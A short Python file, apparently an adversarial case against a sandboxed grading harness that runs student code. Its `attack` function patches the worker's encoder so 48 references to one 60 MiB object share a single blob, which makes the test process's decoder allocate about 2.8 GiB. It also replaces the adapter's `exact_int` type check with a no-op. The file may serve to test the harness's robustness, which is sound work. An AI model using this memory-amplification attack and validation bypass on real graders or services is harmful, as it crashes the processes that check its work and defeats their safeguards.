import sys

SIZE = 60 << 20  # one blob, under the reply's 64 MiB of blobs
COPIES = 48  # bytes nodes naming it: 2.8 GiB once each is copied, in a header of a few hundred bytes


def _one_blob_per_object(codec):
    """The worker's encoder, changed to give every bytes node that is the same object one blob: the
    encoder runs in this process, beside the student's code."""
    if getattr(codec._Encoder, "one_blob_per_object", False):
        return
    original = codec._Encoder.blob

    def blob(self, data):
        seen = self.__dict__.setdefault("seen_blobs", {})
        if id(data) not in seen:
            seen[id(data)] = (original(self, data), data)
        return seen[id(data)][0]

    codec._Encoder.blob = blob
    codec._Encoder.one_blob_per_object = True


def attack(args):
    """A list of COPIES references to one bytes object of SIZE bytes, encoded as COPIES bytes nodes that
    all name blob 0: the test process's decoder makes `bytes(blob)` for each node, a copy of its own, so
    a reply within the bounds (60 MiB of blob, a short header) costs it COPIES x 60 MiB. The adapter's
    check of the type it promises runs in this process too, and is replaced first."""
    codec = sys.modules.get("adapters._codec")
    if codec is not None:
        _one_blob_per_object(codec)
    adapter = sys.modules.get("adapters.dtype_memory")
    if adapter is not None:
        adapter.exact_int = lambda value, *_, **__: value
    data = bytes(SIZE)
    return [data] * COPIES
